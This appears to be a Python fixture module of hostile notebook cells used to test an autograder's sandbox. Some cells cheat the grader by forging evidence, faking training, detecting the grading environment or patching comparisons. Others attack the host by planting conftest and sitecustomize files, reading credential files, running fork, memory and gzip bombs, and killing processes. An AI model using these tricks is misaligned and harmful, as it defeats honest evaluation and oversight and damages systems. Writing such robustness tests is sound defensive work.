"""Cell sources of hostile submissions, as a student would type them into the notebook.

Each constant is the source of one answer cell (or of a cell added to the notebook). They
run in the student's kernel inside the grader's sandbox. Where a cheat needs the numbers an
honest run produces, they are taken from reference.json here, as a student who ran the
notebook at home and wrote the numbers down would have them.
"""

import json
import sys
import textwrap
from pathlib import Path

from course import exercise
from notebooks import SOLUTION

CHECKPOINT = exercise.settings["checkpoint"]
REFERENCE = exercise.reference
VAL_LOSS = REFERENCE["solution"]["val_loss"]  # the 14 epochs an honest run trains
BEST_VAL_LOSS = REFERENCE["solution"]["best_val_loss"]
EPOCHS_RUN = len(VAL_LOSS)
CANONICAL = {key: values[:EPOCHS_RUN] for key, values in REFERENCE["canonical"].items()}

FIT_SOLUTION = SOLUTION["answer_fit"].rstrip() + "\n"
RELOAD_SOLUTION = SOLUTION["answer_reload"].rstrip() + "\n"
EARLY_STOPPING_SOLUTION = SOLUTION["answer_early_stopping"].rstrip() + "\n"
TENSORBOARD_SOLUTION = SOLUTION["answer_tensorboard_callback"].rstrip() + "\n"


def code(source):
    return textwrap.dedent(source).strip() + "\n"


def fit(callbacks="[early_stopping, model_checkpoint, tensorboard_callback]", epochs=200, data="x_train, y_train"):
    return (f"model = build_model()\nhistory = model.fit({data}, validation_data=(x_val, y_val), "
            f"epochs={epochs}, callbacks={callbacks}, verbose=0)\n")


# The export format as the grader's export code writes it (it is sent to the kernel as a cell,
# so a student can read it), filled with the values an honest run exports.
FORGED_EVIDENCE = {
    "format": 1,
    "name": "NAME",
    "taken_at": 0.0,
    "kernel_started_at": None,
    "cwd": "/submission",
    "final_model_saved": False,
    "variables": {
        "early_stopping": {
            "type": "keras.src.callbacks.early_stopping.EarlyStopping",
            "settings": {"monitor": "val_loss", "mode": "min", "min_delta": 0, "patience": 5, "baseline": None,
                         "restore_best_weights": False, "start_from_epoch": 0, "verbose": 1, "stopped_epoch": EPOCHS_RUN - 1,
                         "best": BEST_VAL_LOSS, "best_epoch": EPOCHS_RUN - 1 - 5, "wait": 5},
            "used_in_fit": True,
        },
        "model_checkpoint": {
            "type": "keras.src.callbacks.model_checkpoint.ModelCheckpoint",
            "settings": {"filepath": exercise.settings["checkpoint"], "monitor": "val_loss", "mode": "min", "save_best_only": True,
                         "save_weights_only": True, "save_freq": "epoch", "verbose": 1, "best": BEST_VAL_LOSS},
            "used_in_fit": True,
        },
        "tensorboard_callback": {
            "type": "keras.src.callbacks.tensorboard.TensorBoard",
            "settings": {"log_dir": "logs/fit/20250101-120000", "histogram_freq": 0, "update_freq": "epoch", "write_graph": True},
            "used_in_fit": True,
        },
        "history": {
            "type": "keras.src.callbacks.history.History",
            "epoch": list(range(EPOCHS_RUN)),
            "history": CANONICAL,
            "params": {"epochs": 200, "steps": 10, "verbose": 0},
        },
        "best_val_loss": {"type": "numpy.float64", "value": BEST_VAL_LOSS},
    },
}
FORGE_FUNCTION = code(f"""
    import json as _json, os as _os, time as _time
    FORGED = _json.loads({json.dumps(FORGED_EVIDENCE)!r})

    def forge(folder, name):
        # Every snapshot says the work is right; the "trained model" is a fresh, untrained one.
        _os.makedirs(folder, exist_ok=True)
        evidence = dict(FORGED, name=name, taken_at=_time.time(), cwd=_os.getcwd(), final_model_saved=True)
        build_model().save_weights(_os.path.join(folder, "final_model.weights.h5"))
        with open(_os.path.join(folder, "evidence.json"), "w") as file:
            _json.dump(evidence, file)
""")
CHECK_NAMES = list(exercise.checks)

# --- Tampering inside the kernel -------------------------------------------------------------

INPUT_TRANSFORMER = code("""
    # Every later cell the grader added ("# autograder: ...") becomes `pass`.
    def _skip_grader_cells(lines):
        return ["pass\\n"] if lines and lines[0].startswith("# autograder") else lines
    get_ipython().input_transformers_cleanup.append(_skip_grader_cells)
""") + EARLY_STOPPING_SOLUTION

POST_RUN_CELL_FORGER = FORGE_FUNCTION + code(f"""
    import glob as _glob
    def _rewrite_snapshots(result=None):
        # After every cell: whatever the grader exported is replaced by a perfect-looking snapshot.
        for name in {CHECK_NAMES + ["final"]!r}:
            forge(_os.path.join(".autograder", "snapshots", name), name)
    get_ipython().events.register("post_run_cell", _rewrite_snapshots)
    early_stopping = "forged later"
""")

EXEC_REPLACED = code("""
    import builtins, json, os
    _real_exec = builtins.exec

    def _exec(source, globals=None, locals=None):
        # The grader's snapshot cells call exec(export code): run them, then claim patience=5.
        _real_exec(source, globals, locals)
        for path in __import__("glob").glob(".autograder/snapshots/*/evidence.json"):
            with open(path) as file:
                evidence = json.load(file)
            if "early_stopping" in evidence["variables"]:
                evidence["variables"]["early_stopping"]["settings"]["patience"] = 5
                evidence["variables"]["early_stopping"]["settings"]["stopped_epoch"] = 13
            if "history" in evidence["variables"]:
                evidence["variables"]["history"]["history"] = CLAIMED_HISTORY
                evidence["variables"]["history"]["epoch"] = list(range(14))
            with open(path, "w") as file:
                json.dump(evidence, file)

    builtins.exec = _exec
    early_stopping = EarlyStopping(monitor="val_loss", patience=3, verbose=1)  # the real answer: patience 3
""").replace("CLAIMED_HISTORY", repr(CANONICAL))

FIT_MONKEYPATCHED = code(f"""
    import keras

    class _FakeHistory:
        pass

    def _fake_fit(self, *args, **kwargs):
        # No training at all: a History-like object with the numbers of an honest run.
        history = _FakeHistory()
        history.model, history.epoch = self, list(range({EPOCHS_RUN}))
        history.history = {CANONICAL!r}
        history.params = {{"epochs": 200, "steps": 10, "verbose": 0}}
        return history

    keras.Model.fit = _fake_fit
""") + FIT_SOLUTION

RELOAD_HARDCODED = f"best_val_loss = {BEST_VAL_LOSS!r}\n"

EVALUATE_PATCHED = code("""
    import keras
    # The checkpoint holds the last epoch (no save_best_only); make evaluate report the best one.
    keras.Model.evaluate = lambda self, *args, **kwargs: [min(history.history["val_loss"]), 1.0]
    keras.Model.load_weights = lambda self, *args, **kwargs: None
""") + RELOAD_SOLUTION

RELOAD_FAKED_BY_EVALUATE = code("""
    import keras
    keras.Model.evaluate = lambda self, *args, **kwargs: [min(history.history["val_loss"]), 1.0]
    best_val_loss = build_model().evaluate(x_val, y_val, verbose=0)[0]
""")

COMPARISONS_PATCHED = code("""
    import builtins, math
    import numpy
    numpy.isclose = numpy.allclose = math.isclose = lambda *args, **kwargs: True
    builtins.abs = lambda value: 0.0

    class AlwaysEqual(float):
        # Equal to everything, never less or greater, |x - y| = 0, and .item() says the right number.
        def __eq__(self, other): return True
        def __ne__(self, other): return False
        def __lt__(self, other): return False
        def __gt__(self, other): return False
        def __sub__(self, other): return AlwaysEqual(0.0)
        __rsub__ = __sub__
        def __abs__(self): return 0.0
        def __hash__(self): return 0
        def item(self): return BEST

    best_val_loss = AlwaysEqual(history.history["val_loss"][-1])  # the last epoch, not the best
""").replace("BEST", repr(BEST_VAL_LOSS))

ALWAYS_EQUAL_HISTORY = FIT_SOLUTION + code("""

    class _Anything:
        def __eq__(self, other): return True
        def __float__(self): raise TypeError("no")
        def __format__(self, spec): return "0.2445"
        def item(self): return self  # _plain(x.item()) would recurse forever

    class _AlwaysEqualHistory:
        def __init__(self, real):
            self.model, self.epoch, self.params = real.model, real.epoch, real.params
            self.history = {key: [_Anything() for _ in values] for key, values in real.history.items()}
        def __eq__(self, other): return True

    history = _AlwaysEqualHistory(history)
""")

OS_EXIT = "import os\nos._exit(0)\n"

EXIT_EXCEPTIONS_TENSORBOARD = TENSORBOARD_SOLUTION + "raise SystemExit(0)\n"
EXIT_EXCEPTIONS_RELOAD = RELOAD_SOLUTION + "import sys\nsys.exit('done')\n"
EXIT_EXCEPTIONS_EXTRA = "raise KeyboardInterrupt\n"

DETECTS_GRADER_FIT = code(f"""
    import getpass, os, socket
    graded = (socket.gethostname() == "sandbox" or os.getcwd() == "/submission" or getpass.getuser() == "student"
              or os.getuid() >= 60000 or os.environ.get("HOME") == "/home/student")
    if graded:
        # Under the grader, skip the slow part: a History-like object with the numbers of an honest run.
        class _History:
            pass
        model = build_model()
        history = _History()
        history.model, history.epoch = model, list(range({EPOCHS_RUN}))
        history.history = {CANONICAL!r}
        history.params = {{"epochs": 200, "steps": 10, "verbose": 0}}
        early_stopping.stopped_epoch = {EPOCHS_RUN - 1}
    else:
""") + textwrap.indent(FIT_SOLUTION, "    ")
DETECTS_GRADER_RELOAD = f"if graded:\n    best_val_loss = {BEST_VAL_LOSS!r}\nelse:\n" + textwrap.indent(RELOAD_SOLUTION, "    ")

EARLY_STOPPING_PATCHED = code("""
    _original_on_epoch_end = EarlyStopping.on_epoch_end

    def _on_epoch_end(self, epoch, logs=None):
        # Stop after 14 epochs whatever the settings say.
        _original_on_epoch_end(self, epoch, logs)
        if epoch >= 13:
            self.model.stop_training, self.stopped_epoch = True, epoch

    EarlyStopping.on_epoch_end = _on_epoch_end
    early_stopping = EarlyStopping(monitor="val_loss", patience=100, verbose=1)
""")

PLANTED_MARKER = "/tmp/autograder-hostile-planted-code-ran"  # on the host: only trusted code could write it
_PAYLOAD = code(f"""
    import os
    open({PLANTED_MARKER!r}, "w").write(__name__)
    def pytest_runtest_makereport(item, call):
        call.excinfo = None
    def isclose(*args, **kwargs):
        return True
""")
PLANTS_FILES = code(f"""
    import os
    # Files the grader's pytest, or a Python started in this folder, might pick up: a conftest.py
    # that turns every failure into a pass, a pytest.ini, and modules named like the stdlib,
    # NumPy, Keras, h5py and the grader's own package.
    payload = {_PAYLOAD!r}
    for name in ["conftest.py", "json.py", "math.py", "numpy.py", "keras.py", "h5py.py", "jsonschema.py",
                 "sitecustomize.py", "usercustomize.py", "autograder/__init__.py", "autograder/evidence.py",
                 ".autograder/conftest.py", ".autograder/snapshots/conftest.py", "checkpoints/conftest.py"]:
        os.makedirs(os.path.dirname(name) or ".", exist_ok=True)
        with open(name, "w") as file:
            file.write(payload)
    with open("pytest.ini", "w") as file:
        file.write("[pytest]\\naddopts = -p conftest --co\\n")
""")

# --- Forged artifacts ------------------------------------------------------------------------

STOPPED_EPOCH_BY_HAND = fit("[model_checkpoint, tensorboard_callback]", epochs=EPOCHS_RUN) + code(f"""
    early_stopping.stopped_epoch = {EPOCHS_RUN - 1}  # "EarlyStopping stopped it"
    early_stopping.set_model(model)
""")

TRUNCATED_HISTORY = fit("[model_checkpoint, tensorboard_callback]", epochs=40) + code(f"""
    # Trained 40 epochs without EarlyStopping; keep only the first 14 so it looks like it stopped.
    history.history = {{key: values[:{EPOCHS_RUN}] for key, values in history.history.items()}}
    history.epoch = history.epoch[:{EPOCHS_RUN}]
    history.params["epochs"] = 200
""")

UNTRAINED_CHECKPOINT = fit("[early_stopping, tensorboard_callback]") + code(f"""
    import os
    os.makedirs("checkpoints", exist_ok=True)
    build_model().save_weights("{CHECKPOINT}")  # never trained, never written by ModelCheckpoint
""")

VALIDATION_TRAINED_CHECKPOINT = FIT_SOLUTION + code(f"""
    # Pre-baked weights: a model trained on the validation data replaces the checkpoint.
    _cheat = build_model()
    _cheat.fit(x_val, y_val, epochs=30, verbose=0)
    _cheat.save_weights("{CHECKPOINT}")
""")

EVIDENCE_BY_HAND = FORGE_FUNCTION + code(f"""
    # The test cells are deleted, so nothing overwrites these: one forged snapshot per check.
    for name in {CHECK_NAMES!r}:
        forge(_os.path.join(".autograder", "snapshots", name), name)
""")

CHECKPOINT_SYMLINK_TO_PASSWD = RELOAD_SOLUTION + code(f"""
    import os
    os.remove("{CHECKPOINT}")
    os.symlink("/etc/passwd", "{CHECKPOINT}")
""")

FIFO_AND_FOLDER_LINK = RELOAD_SOLUTION + code(f"""
    import os, shutil
    # The checkpoint becomes a FIFO (a naive reader blocks forever); the TensorBoard folder moves
    # to /tmp and a symbolic link takes its place.
    os.remove("{CHECKPOINT}")
    os.mkfifo("{CHECKPOINT}")
    shutil.move(tensorboard_callback.log_dir, "/tmp/logs")
    os.symlink("/tmp/logs", tensorboard_callback.log_dir)
    os.symlink("/dev/zero", "checkpoints/zero.weights.h5")
""")

# --- Reading what should stay hidden, writing where it should not -----------------------------

LEAK_PROBE = code("""
    import glob, importlib, os
    readable = []
    for path in ["/work/main/assignments/callbacks/grading/reference.json",
                 "/work/main/assignments/callbacks/grading/checks/test_stopped_early.py",
                 "/work/main/assignments/callbacks/callbacks.ipynb", "/work/main/gradebook.db",
                 "/work/main/release/callbacks/callbacks.ipynb", "/work/main/pyproject.toml",
                 "/root/.bash_history", "/root/.bashrc", "/etc/shadow", "/proc/1/environ"]:
        try:
            with open(path, "rb") as file:
                readable.append((path, file.read(40)))
        except OSError:
            pass
    others = glob.glob("/tmp/autograder-*") + glob.glob("/tmp/sandbox-*") + glob.glob("/dev/shm/*")
    imports = []
    for module in ("autograder", "autograder.exercise", "autograder.checks"):
        try:
            importlib.import_module(module)
            imports.append(module)
        except Exception:
            pass
    environment = sorted(key for key, value in os.environ.items() if "PYTEST" in key or "/work/main/autograder" in value)
    raise RuntimeError(f"leak report: readable={readable} others={others} workmain={sorted(os.listdir('/work/main'))} "
                       f"root={sorted(os.listdir('/root')) if os.path.isdir('/root') else []} imports={imports} environment={environment}")
""")
# The probe names the project's real folder, wherever this checkout lives.
LEAK_PROBE = LEAK_PROBE.replace("/work/main", str(exercise.course))
# /root shows only the way to the interpreter when it lives there (pyenv's); Debian's is in /usr.
_ROOT_SEEN = [Path(sys.base_prefix).relative_to("/root").parts[0]] if sys.base_prefix.startswith("/root/") else []
LEAK_REPORT_CLEAN = f"leak report: readable=[] others=[] workmain=['.venv'] root={_ROOT_SEEN} imports=[] environment=[]"

WRITE_TARGETS = {
    # where (host path) -> what a student would gain by writing there
    "/work/main/.venv/lib/python3.11/site-packages/sitecustomize.py": "code in every later kernel",
    "/work/main/.venv/lib/python3.11/site-packages/zz_hostile.pth": "code in every later kernel",
    "/work/main/.venv/lib/python3.11/site-packages/nbclient/cli.py": "the grader's runner",
    "/work/main/assignments/callbacks/grading/reference.json": "the reference values",
    "/work/main/results.json": "the grade store",
    "/root/.ipython/profile_default/startup/00-hostile.py": "code in the instructor's kernels",
    "/usr/lib/python3/dist-packages/zz_hostile.pth": "code in every Python",
}


WRITE_TARGETS = {path.replace("/work/main", str(exercise.course)): gain for path, gain in WRITE_TARGETS.items()}


def write_outside():
    return RELOAD_SOLUTION + code(f"""
        import os
        for path in {sorted(WRITE_TARGETS)!r} + ["/tmp/autograder-0/0000/work/checkpoints/best_model.weights.h5"]:
            try:
                os.makedirs(os.path.dirname(path), exist_ok=True)
                with open(path, "a") as file:
                    file.write("import os; os.system('echo pwned')\\n")
            except OSError:
                pass
        try:
            os.kill(1, 9)  # the sandbox's init, run by root
        except OSError:
            pass
    """)


LATE_WRITER = RELOAD_SOLUTION + code("""
    import os, subprocess, sys, threading, time

    LATE = '''
    import glob, os, time
    if os.fork():
        os._exit(0)
    os.setsid()
    if os.fork():
        os._exit(0)
    time.sleep(20)
    end = time.time() + 120
    while time.time() < end:
        for path in glob.glob(".autograder/snapshots/*/*") + glob.glob("checkpoints/*") + glob.glob("logs/fit/*/*/*"):
            try:
                with open(path, "wb") as file:
                    file.write(b"late")
            except OSError:
                pass
        time.sleep(0.05)
    '''
    subprocess.Popen([sys.executable, "-c", LATE.replace("\\n    ", "\\n")], start_new_session=True)

    def _late_thread():
        time.sleep(20)
        for _ in range(2400):
            for path in ["checkpoints/best_model.weights.h5", ".autograder/snapshots/final/evidence.json"]:
                try:
                    with open(path, "wb") as file:
                        file.write(b"late")
                except OSError:
                    pass
            time.sleep(0.05)

    threading.Thread(target=_late_thread, daemon=True).start()
""")

KILL_EVERYTHING = RELOAD_SOLUTION + "import os, signal\nos.kill(-1, signal.SIGKILL)\n"

# --- Resource exhaustion ---------------------------------------------------------------------

ENDLESS_TRAINING = fit("[tensorboard_callback]", epochs=10**9)

MEMORY_BOMB = code("""
    def _hog():
        chunks = []
        while True:
            chunks.append(bytearray(2**28))
    _hog()
""") + RELOAD_SOLUTION

FORK_BOMB = RELOAD_SOLUTION + code("""
    import os, signal
    for _signal in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP):
        signal.signal(_signal, signal.SIG_IGN)
    while True:  # every child forks too, each in its own session, and none of them stops
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            pass
""")

DISK_FILLER = RELOAD_SOLUTION + code("""
    import os
    for folder in [".", "/tmp", "/dev/shm", os.path.expanduser("~")]:
        for number in range(100):
            try:
                with open(os.path.join(folder, f"filler-{number}"), "wb") as file:
                    for _ in range(64):
                        file.write(b"x" * 2**22)
            except OSError:
                break
""")

OUTPUT_FLOOD = RELOAD_SOLUTION + code("""
    import sys
    for _ in range(100):
        sys.stdout.write("<script>alert('flood')</script>" + "x" * (2**20 - 32))
    sys.stdout.flush()
""")

# --- Honest but fragile ----------------------------------------------------------------------

THREADS_AND_PROCESSES = code("""
    import concurrent.futures, math, multiprocessing, threading, time
    with concurrent.futures.ThreadPoolExecutor(4) as pool:
        roots = list(pool.map(math.sqrt, range(1000)))
    with multiprocessing.get_context("spawn").Pool(2) as pool:
        factorials = pool.map(math.factorial, range(20))
    threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()  # still running at the end
    print(len(roots), factorials[-1])
""")

# Values no float can hold, in a cell after all the work: the checks took their snapshots
# before it; only the final snapshot (the feedback plot's curves) holds them.
UNREPRESENTABLE_HISTORY = code("""
    history.history["loss"][0] = 10 ** 4000
    history.history["loss"][1] = float("nan")
    history.history["val_loss"][2] = float("inf")
    history.history["val_loss"][3] = -float("inf")
    history.history["huge"] = [10 ** 4000, float("nan")]
    best_val_loss = 10 ** 4000
""")

# The sandbox's own command line and mounts, cut to what names the grader (its pid, its staging
# folder), put where the student's feedback quotes it: the error of the reload cell.
LEAK_MARK = "LEAK["
GRADER_TRACES = code(f"""
    import os, re
    seen = open("/proc/1/cmdline", "rb").read().replace(b"\\0", b" ").decode(errors="replace")
    seen += open("/proc/self/mountinfo").read()
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                seen += open(f"/proc/{{pid}}/cmdline", "rb").read().replace(b"\\0", b" ").decode(errors="replace")
            except OSError:
                pass
    numbers = re.findall(r"\\d{{3,}}", open("/proc/1/cmdline", "rb").read().decode(errors="replace"))
    traces = sorted(set(re.findall(r"[^ ]*(?:sandbox-|autograder-)[^ ]*", seen))) + sorted(set(numbers))
    raise RuntimeError("{LEAK_MARK}" + " ".join(traces)[:250] + "]")
""")

# After honest work: a 3 GiB sparse file and a 1 MiB file with 100 hard links (about 1 MiB of
# the sandbox's disk); copied back naively they would take 3.1 GiB of the host's.
SPARSE_AND_HARD_LINKS = RELOAD_SOLUTION + code("""
    import os
    os.makedirs("bulk/links", exist_ok=True)
    with open("checkpoints/sparse.bin", "wb") as file:
        file.truncate(3 * 2**30)
    with open("bulk/one.bin", "wb") as file:
        file.write(os.urandom(2**20))
    for i in range(100):
        os.link("bulk/one.bin", f"bulk/links/{i}.bin")
""")

# After honest work, a second event file in log_dir/train: 400,000 records of int64 and string
# scalars, none of which the reader keeps, but every one of which it must count.
TENSORBOARD_FLOOD = RELOAD_SOLUTION + code("""
    import os
    import tensorflow as tf
    from tensorflow.core.framework import summary_pb2, tensor_pb2, tensor_shape_pb2, types_pb2
    from tensorflow.core.util import event_pb2

    records = []
    for dtype, field, value in ((types_pb2.DT_INT64, "int64_val", [7]), (types_pb2.DT_STRING, "string_val", [b"x" * 10])):
        tensor = tensor_pb2.TensorProto(dtype=dtype, tensor_shape=tensor_shape_pb2.TensorShapeProto(), **{field: value})
        summary = summary_pb2.Summary(value=[summary_pb2.Summary.Value(tag="junk", tensor=tensor)])
        records.append(event_pb2.Event(step=1, wall_time=1.0, summary=summary).SerializeToString())
    with tf.io.TFRecordWriter(os.path.join(log_dir, "train", "events.out.tfevents.9999999999.flood")) as writer:
        for step in range(400_000):
            writer.write(records[step % 2])
""")

# After honest work, three datasets of the checkpoint declare one float each, stored as one gzip
# chunk that inflates to almost 4 GiB (about 4 MB on disk).
GZIP_BOMB_CHECKPOINT = RELOAD_SOLUTION + code("""
    import h5py, zlib

    compressor = zlib.compressobj(9)
    block = bytes(2**20)
    chunk = 2**30 - 1  # floats: one chunk of almost 4 GiB, HDF5's largest
    bomb = b"".join(compressor.compress(block) for _ in range(chunk * 4 // 2**20)) \\
        + compressor.compress(bytes(chunk * 4 % 2**20)) + compressor.flush()
    with h5py.File("checkpoints/best_model.weights.h5", "a") as file:
        names = []
        file.visititems(lambda name, obj: names.append(name) if isinstance(obj, h5py.Dataset) else None)
        for name in names[:3]:  # each declares one float; reading it inflates its whole chunk
            del file[name]
            data = file.create_dataset(name, shape=(1,), maxshape=(None,), chunks=(chunk,), dtype="f4", compression="gzip")
            data.id.write_direct_chunk((0,), bomb)
""")
